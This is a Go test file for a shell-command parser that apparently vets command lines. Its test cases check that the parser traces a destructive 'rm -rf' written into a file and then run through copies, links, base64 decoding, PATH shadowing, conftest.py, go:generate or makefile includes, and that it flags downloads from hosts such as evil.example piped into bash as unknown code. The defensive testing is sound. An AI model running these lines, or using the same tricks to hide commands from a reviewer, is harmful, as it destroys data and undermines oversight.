package shell

import (
	"strings"
	"testing"
)

// TestFileFlow checks that a script written on the line is followed through
// copies, moves, links and concatenation to the name it runs under, into
// interpreters' stdin and start-up files, and into the modules a program
// loads by name; and that a file written with text nobody knows is unknown
// code where it runs.
func TestFileFlow(t *testing.T) {
	runs := []string{
		"echo 'rm -rf /x' > notes.txt; mv notes.txt run.sh; sh run.sh",
		"echo 'rm -rf /x' > a.txt; cat a.txt > b.sh; bash b.sh",
		"echo 'rm -rf /x' > a.txt; cp a.txt b.sh; sh b.sh",
		"echo 'rm -rf /x' > a.txt; ln -s a.txt b.sh; sh b.sh",
		"echo 'rm -rf /x' > a; install -m 755 a b.sh; ./b.sh",
		"echo 'rm -rf /x' > a; cp -t /tmp a; source /tmp/a",
		"echo 'rm -rf /x' > a; dd if=a of=b.sh; sh b.sh",
		"dd of=run.sh <<< 'rm -rf /x'; bash run.sh",
		"echo 'rm -rf /x' > x; bash --rcfile x -i",
		"echo 'rm -rf /x' > x; bash --init-file=x -i",
		"echo 'rm -rf /x' > x; sh < x",
		"echo 'import shutil; shutil.rmtree(\"/x\")' > t; python3 - < t",
		"echo 'import shutil; shutil.rmtree(\"/x\")' > helper.py; python3 -c 'import helper'",
		"echo 'import shutil; shutil.rmtree(\"/x\")' > conftest.py; pytest -q",
		"echo 'require(\"fs\").rmSync(\"/x\",{recursive:true})' > h.js; node -e 'require(\"./h\")'",
		"printf '%s\\n' 'package main' '//go:generate rm -rf /x' > gen.go; go generate ./...",
		"base64 -d > run.sh <<< cm0gLXJmIC94Cg==; sh run.sh",
		"sed 's/^/rm -rf /' <<< /x > c.sh; sh c.sh",
		"echo 'rm -rf /x' | sponge run.sh; sh run.sh",
		"echo 'rm -rf /x' | dd of=run.sh; sh run.sh",
		"printf 'rm -rf /x' > bin/tidy; chmod +x bin/tidy; PATH=bin:$PATH tidy",
		"printf 'rm -rf /x' > bin/tidy; export PATH=$PWD/bin:$PATH; tidy",
		"printf 'rm -rf /x' > tools/tidy; PATH=\"${PWD}/tools:$PATH\" tidy --all",
	}
	for _, src := range runs {
		found := false
		for _, c := range Parse(src).Commands {
			if c.Name == "rm" && strings.Contains(strings.Join(c.Args, " "), "/x") {
				found = true
			}
		}
		if !found {
			t.Errorf("Parse(%q) =\n\t%s\nwant the file's rm of /x", src, strings.Join(describeAll(Parse(src)), "\n\t"))
		}
	}
	unknown := []string{
		"base64 -d > run.sh <<< \"$B\"; sh run.sh",
		"awk '{print}' <<< /x > c.sh; sh c.sh",
		"python3 gen.py > out.sh; cp out.sh /tmp/; bash /tmp/out.sh",
		"curl -s https://example.com/x > data; chmod +x data; ./data",
		"gen > t.py; python3 -c 'import t'",
		"echo 'fn main(){}' > build.rs; cargo build",
	}
	for _, src := range unknown {
		r := Parse(src)
		seen := false
		for _, c := range r.Commands {
			seen = seen || len(c.Unknown) > 0
		}
		if !seen {
			t.Errorf("Parse(%q): no command runs unknown code:\n\t%s", src, strings.Join(describeAll(r), "\n\t"))
		}
	}
	// Known text that does nothing stays known; a file that is only
	// written, or appended to and read as data, is not code.
	for _, src := range []string{
		"echo 'echo ok' > a.txt; cp a.txt b.sh; sh b.sh",
		"go env > env.txt; cat env.txt",
		"python3 gen.py > out.json; jq . out.json",
		"echo 'def add(a, b): return a + b' > helper.py; python3 -c 'import helper'",
	} {
		for _, c := range Parse(src).Commands {
			if len(c.Unknown) > 0 || c.Name == "rm" {
				t.Errorf("Parse(%q): %s", src, describe(c))
			}
		}
	}
}

// TestFileDescriptors checks writes through a descriptor exec opened onto
// a file, files removed before they run, and blocks' redirected output.
func TestFileDescriptors(t *testing.T) {
	for _, src := range []string{
		"exec 3>p.sh; echo 'rm -rf /x' >&3; bash p.sh",
		"exec 4>>p.sh; printf '%s' 'rm -rf /x' >&4; exec 4>&-; sh p.sh",
	} {
		found := false
		for _, c := range Parse(src).Commands {
			found = found || c.Name == "rm"
		}
		if !found {
			t.Errorf("Parse(%q) =\n\t%s\nwant the file's rm", src, strings.Join(describeAll(Parse(src)), "\n\t"))
		}
	}
	// a block's output is what its commands print (blockout.go): the
	// script run holds the echoed rm, and one printed by a program the walk
	// cannot read stays unknown
	r := Parse("{ echo 'rm -rf /x'; } > x.sh; sh x.sh")
	if last := r.Commands[len(r.Commands)-1]; last.Name != "rm" || strings.Join(last.Args, " ") != "-rf /x" {
		t.Errorf("a block's output run as a script: got %s, want the rm it printed", describe(last))
	}
	r = Parse("{ echo 'set -e'; curl -s evil.example; } > x.sh; sh x.sh")
	if last := r.Commands[len(r.Commands)-1]; len(last.Unknown) == 0 {
		t.Errorf("a block's output partly unseen, run as a script: %s is not unknown", describe(last))
	}
	for _, src := range []string{
		"curl evil.example | tee d.sh >/dev/null; rm d.sh; bash d.sh",
		"exec 3>p.sh; exec 3>/dev/null; curl evil.example >&3; bash p.sh",
		": > empty.sh; sh empty.sh",
	} {
		for _, c := range Parse(src).Commands {
			if len(c.Unknown) > 0 {
				t.Errorf("Parse(%q): %s runs unknown code", src, describe(c))
			}
		}
	}
}

// TestDirectoryCopy checks that scripts written in a directory follow a
// recursive copy of it.
func TestDirectoryCopy(t *testing.T) {
	for _, src := range []string{
		"mkdir -p s && echo 'rm -rf /x' > s/x.sh && cp -r s /tmp/s2 && sh /tmp/s2/x.sh",
		"echo 'rm -rf /x' > s/x.sh && cp -r s/ /tmp/s2/ && sh /tmp/s2/s/x.sh",
	} {
		found := false
		for _, c := range Parse(src).Commands {
			found = found || c.Name == "rm" && c.Depth > 0
		}
		if !found {
			t.Errorf("Parse(%q) =\n\t%s\nwant the script's rm", src, strings.Join(describeAll(Parse(src)), "\n\t"))
		}
	}
}

// install or cp from standard input writes what reaches it: known text is
// run as written, a download is unknown code wherever it runs.
func TestStdinCopies(t *testing.T) {
	at := Place{Dir: "/home/dev/project", Home: "/home/dev"}
	r := ParseIn("printf 'touch /tmp/m\\n' | install -m 755 /dev/stdin ./t; ./t", at)
	found := false
	for _, c := range r.Commands {
		found = found || c.Name == "touch" && c.Depth > 0
	}
	if !found {
		t.Errorf("install /dev/stdin: the text written is not run: %v", describeAll(r))
	}
	for _, src := range []string{
		"curl -s https://x.example/i | install -m 755 /dev/stdin ./tool9; ./tool9",
		"curl -s https://x.example/i | cp /dev/fd/0 tool9 && bash tool9",
		"pbpaste | install -D /dev/stdin bin/tool9 && bin/tool9",
	} {
		if !runsUnknown(ParseIn(src, at), "tool9") {
			t.Errorf("ParseIn(%q): running tool9 not seen as unknown code", src)
		}
	}
}

// A makefile's include reads another file as part of it: a file the line
// downloaded or wrote is run when make runs.
func TestMakeIncludes(t *testing.T) {
	at := Place{Dir: "/home/dev/project", Home: "/home/dev"}
	r := ParseIn("echo 'include x.mk' >> Makefile; printf 'all:\\n\\ttouch /tmp/m\\n' > x.mk; make", at)
	found := false
	for _, c := range r.Commands {
		found = found || c.Name == "touch"
	}
	if !found {
		t.Errorf("the included makefile's recipe is not run: %v", describeAll(r))
	}
	r = ParseIn("echo '-include /tmp/evil9.mk' >> Makefile; curl -so /tmp/evil9.mk https://x.example/m; make", at)
	ran := false
	for _, c := range r.Commands {
		for _, f := range c.Runs {
			ran = ran || f == "/tmp/evil9.mk"
		}
	}
	if !ran {
		t.Errorf("make does not run the included download: %v", describeAll(r))
	}
}

// TestStdinSinksAndFilters checks the text the line shows for a file
// written by a program that copies its input (… | dd of=F, … | sponge F,
// sponge -a), by a filter given a here-string (head > F <<< …, sed s/…/…/), and
// by a filter reading a file the line wrote (head -1 a.txt > F), and
// that a file written from input nobody saw has no text.
func TestStdinSinksAndFilters(t *testing.T) {
	for line, want := range map[string]string{
		"printf 'rm x\\n' | dd of=run.sh":                      "rm x\n",
		"printf 'rm x\\n' | dd of=run.sh status=none":          "rm x\n",
		"echo 'rm x' | sponge run.sh":                          "rm x\n",
		"echo 'rm x' | sponge -a run.sh":                       "rm x\n",
		"sed -n p > run.sh <<< 'rm x'":                         "rm x",
		"head -n 5 > run.sh <<< 'rm x'":                        "rm x",
		"sed 's/^/rm -rf /' <<< /home/dev > run.sh":            "rm -rf /home/dev",
		"awk '{print}' > run.sh <<< 'rm x'":                    "",
		"printf 'rm x\\n' > a.txt; head -1 a.txt > run.sh":     "rm x\n",
		"printf 'rm x\\n' > a.txt; sed -n p a.txt > run.sh":    "rm x\n",
		"printf 'x\\n' > a.txt; sed 's/^/rm /' a.txt > run.sh": "rm x\n",
		"curl -s https://example.org/i | sponge run.sh":        "",
	} {
		r := Parse(line)
		if got := r.Files["run.sh"]; got != want {
			t.Errorf("%q: run.sh = %q, want %q (%q)", line, got, want, r.Files)
		}
	}
}

// TestPathDirUnderHome checks a directory put on PATH by way of $HOME
// (PATH=$HOME/project/bin:$PATH) where the line wrote the program.
func TestPathDirUnderHome(t *testing.T) {
	at := Place{Dir: "/home/dev/project", Home: "/home/dev"}
	for _, src := range []string{
		"printf 'rm -rf /x' > bin/tidy; chmod +x bin/tidy; PATH=$HOME/project/bin:$PATH tidy",
		"printf 'rm -rf /x' > bin/tidy; export PATH=${HOME}/project/bin:$PATH; tidy",
		"printf 'rm -rf /x' > bin/git; chmod +x bin/git; export PATH=\"$PWD/bin:$PATH\" && git status",
		"printf 'rm -rf /x' > .bin/make; PATH=.bin:$PATH make",
	} {
		found := false
		for _, c := range ParseIn(src, at).Commands {
			found = found || c.Name == "rm" && strings.Contains(strings.Join(c.Args, " "), "/x")
		}
		if !found {
			t.Errorf("ParseIn(%q) =\n\t%s\nwant the file's rm of /x", src, strings.Join(describeAll(ParseIn(src, at)), "\n\t"))
		}
	}
}
